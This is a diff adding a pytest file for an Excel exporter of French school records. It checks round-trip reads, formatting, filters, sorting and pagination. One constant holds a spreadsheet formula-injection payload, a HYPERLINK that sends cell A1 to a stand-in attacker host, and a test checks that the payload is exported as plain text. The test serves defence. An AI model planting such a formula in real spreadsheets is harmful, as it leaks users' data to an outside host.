@@ -1,0 +1,174 @@
+"""Excel out: the schools sheet exported through sheets/exporter.py, read back with openpyxl and calamine."""
+
+from __future__ import annotations
+
+import datetime as dt
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+from python_calamine import CalamineWorkbook
+
+from models.schools import MODE_LABELS, School
+from sheets import exporter
+from sheets.exporter import describe_filters, export_sheet
+from sheets.query import QueryError, cli_filters
+from sheets.schools import SCHOOLS
+from tests.factories import make_school
+
+INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")'
+
+
+def expected_row(school: School) -> list[Any]:
+    """What a school's row shows in the exported file (choices as labels, booleans, text)."""
+    out: list[Any] = []
+    for column in SCHOOLS.columns:
+        value = getattr(school, column.field)
+        if column.kind == "choice":
+            value = column.choice_label(getattr(value, "value", value))
+        if column.kind == "datetime":
+            value = None  # compared separately (seconds rounding)
+        out.append(value if value != "" else None)
+    return out
+
+
+def read_openpyxl(path: Path) -> tuple[list[str], list[list[Any]], dict[str, Any]]:
+    """Header, rows and « Informations » of an exported file, through openpyxl."""
+    book = openpyxl.load_workbook(path)
+    sheet = book.worksheets[0]
+    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
+    info = {r[0]: r[1] for r in book["Informations"].iter_rows(values_only=True)}
+    return rows[0], rows[1:], info
+
+
+def read_calamine(path: Path) -> list[list[Any]]:
+    """Rows of the first sheet through python-calamine."""
+    book = CalamineWorkbook.from_path(str(path))
+    return book.get_sheet_by_index(0).to_python(skip_empty_area=False)
+
+
+def without_datetime(row: list[Any]) -> list[Any]:
+    """A row with the « Modifié le » cell blanked (compared on its own)."""
+    index = [c.field for c in SCHOOLS.columns].index("updated_at")
+    return [None if i == index else (v if v != "" else None) for i, v in enumerate(row)]
+
+
+async def seed_schools() -> list[School]:
+    """A few schools covering every column kind, plus a formula-injection attempt."""
+    return [
+        await make_school(name="Lycée Jean Jaurès", commune="Montreuil", departement="93", mode="papier",
+                          csn_deployed=True, wifi_ssid="LYC-JAURES", postal_code="93100"),
+        await make_school(name=INJECTION, commune="Paris", departement="75", type="LP"),
+        await make_school(name="Lycée Hoche", commune="Versailles", departement="78", type="LEGT",
+                          track_professionnelle=True, wifi_mdm_configured=True),
+        await make_school(name="+33 1 23 45 67 89 @lycée -test", commune="Créteil", departement="94"),
+    ]
+
+
+async def test_export_round_trip_reads_back_equal_with_openpyxl_and_calamine(db: str, tmp_path: Path) -> None:
+    schools = await seed_schools()
+    target = tmp_path / "ecoles.xlsx"
+    seen: list[tuple[int, int]] = []
+    count = await export_sheet(SCHOOLS, target, actor="alice@example.fr", progress=lambda d, t: seen.append((d, t)))
+    assert count == 4 and seen[-1] == (4, 4)
+    header, rows, info = read_openpyxl(target)
+    assert header == [c.label for c in SCHOOLS.columns]
+    by_uai = {s.uai: s for s in schools}
+    assert [r[0] for r in rows] == sorted(by_uai)  # default sort: UAI
+    for row in rows:
+        assert without_datetime(row) == expected_row(by_uai[row[0]])
+        updated = row[[c.field for c in SCHOOLS.columns].index("updated_at")]
+        stored = by_uai[row[0]].updated_at.astimezone(exporter.PARIS).replace(tzinfo=None)
+        assert abs(updated - stored) < dt.timedelta(seconds=1)  # a real date, Paris wall time
+    calamine_rows = read_calamine(target)
+    assert calamine_rows[0] == header
+    for row_o, row_c in zip(rows, calamine_rows[1:], strict=True):
+        assert without_datetime(row_c) == without_datetime(row_o)
+    assert info["Feuille"] == "Établissements"
+    assert info["Par"] == "alice@example.fr"
+    assert info["Lignes"] == 4
+    assert info["Filtres"].startswith("Aucun filtre")
+    assert dt.datetime.strptime(info["Exporté le"][:16], "%d/%m/%Y %H:%M")
+
+
+async def test_export_is_made_for_people(db: str, tmp_path: Path) -> None:
+    await seed_schools()
+    target = tmp_path / "ecoles.xlsx"
+    await export_sheet(SCHOOLS, target)
+    book = openpyxl.load_workbook(target)
+    sheet = book.worksheets[0]
+    assert sheet.title == "Établissements"
+    assert sheet.freeze_panes == "A2"
+    assert sheet["A1"].font.b
+    assert sheet.auto_filter.ref == "A1:P5"
+    lists = {str(dv.sqref): dv.formula1 for dv in sheet.data_validations.dataValidation}
+    mode_letter = "H"
+    assert '"' + ",".join(MODE_LABELS.values()) + '"' == lists[f"{mode_letter}2:{mode_letter}5"]
+    assert sheet.column_dimensions["B"].width == pytest.approx(320 / 7, abs=0.2)
+
+
+async def test_formula_injection_in_a_school_name_is_exported_as_text(db: str, tmp_path: Path) -> None:
+    await seed_schools()
+    target = tmp_path / "ecoles.xlsx"
+    await export_sheet(SCHOOLS, target)
+    sheet = openpyxl.load_workbook(target).worksheets[0]
+    cells = {sheet.cell(row, 2).value: sheet.cell(row, 2) for row in range(2, 6)}
+    for text in (INJECTION, "+33 1 23 45 67 89 @lycée -test"):
+        cell = cells[text]
+        assert cell.data_type == "s"  # a string, never a formula
+        assert cell.quotePrefix  # shown as text by Excel and LibreOffice, even on re-edit
+    assert INJECTION in [r[1] for r in read_calamine(target)]
+
+
+async def test_export_with_filters_and_sort(db: str, tmp_path: Path) -> None:
+    await seed_schools()
+    for n in range(7):
+        await make_school(name=f"Lycée Créteil {n}", commune="Créteil" if n % 2 else "Meaux", departement="77")
+    target = tmp_path / "creteil.xlsx"
+    filters = cli_filters(SCHOOLS, ["academie=Créteil"])
+    count = await export_sheet(SCHOOLS, target, filter_model=filters,
+                               sort_model=[{"colId": "commune", "sort": "desc"}, {"colId": "name", "sort": "asc"}])
+    expected = await School.filter(academie__in=["creteil"]).order_by("-commune", "name", "id").values_list(
+        "uai", flat=True)
+    _, rows, info = read_openpyxl(target)
+    assert count == len(expected) == 9
+    assert [r[0] for r in rows] == list(expected)
+    assert info["Filtres"] == "Académie égal à « Créteil »"
+    assert info["Tri"] == "Commune (décroissant), Nom (croissant)"
+    assert info["Lignes"] == 9
+
+
+async def test_export_pages_through_chunks_with_ties(db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(exporter, "CHUNK_ROWS", 3)  # keyset pagination crosses many chunk boundaries
+    for n in range(17):
+        await make_school(name=f"Lycée {n % 4}", commune=("Paris", "Meaux", "Évry")[n % 3],
+                          departement=("75", "77", "91")[n % 3])
+    sort = [{"colId": "commune", "sort": "asc"}, {"colId": "name", "sort": "desc"}]
+    target = tmp_path / "chunks.xlsx"
+    assert await export_sheet(SCHOOLS, target, sort_model=sort) == 17
+    expected = await School.all().order_by("commune", "-name", "-id").values_list("uai", flat=True)
+    assert [r[0] for r in read_calamine(target)[1:]] == list(expected)
+    quick = tmp_path / "quick.xlsx"
+    assert await export_sheet(SCHOOLS, quick, quick="meaux") == 6
+
+
+async def test_bad_filter_is_refused_in_french_and_leaves_no_file(db: str, tmp_path: Path) -> None:
+    target = tmp_path / "x.xlsx"
+    with pytest.raises(QueryError, match="Colonne inconnue"):
+        await export_sheet(SCHOOLS, target, filter_model={"password": {"type": "equals", "filter": "x"}})
+    assert not target.exists()
+
+
+def test_filters_are_described_in_french() -> None:
+    model = {
+        "mode": {"filterType": "set", "values": ["papier"]},
+        "csn_deployed": {"filterType": "boolean", "type": "equals", "filter": "true"},
+        "name": {"filterType": "text", "operator": "OR", "conditions": [
+            {"type": "contains", "filter": "Hoche"}, {"type": "startsWith", "filter": "Lycée J"}]},
+        "updated_at": {"filterType": "date", "type": "inRange", "dateFrom": "2026-09-01", "dateTo": "2026-09-30"},
+    }
+    text = describe_filters(SCHOOLS, model, "jaurès")
+    assert text == ("Manuels parmi « Papier » ; CSN déployé égal à « Oui » ; "
+                    "Nom contient « Hoche » ou commence par « Lycée J » ; "
+                    "Modifié le entre « 01/09/2026 » et « 30/09/2026 » ; recherche « jaurès »")
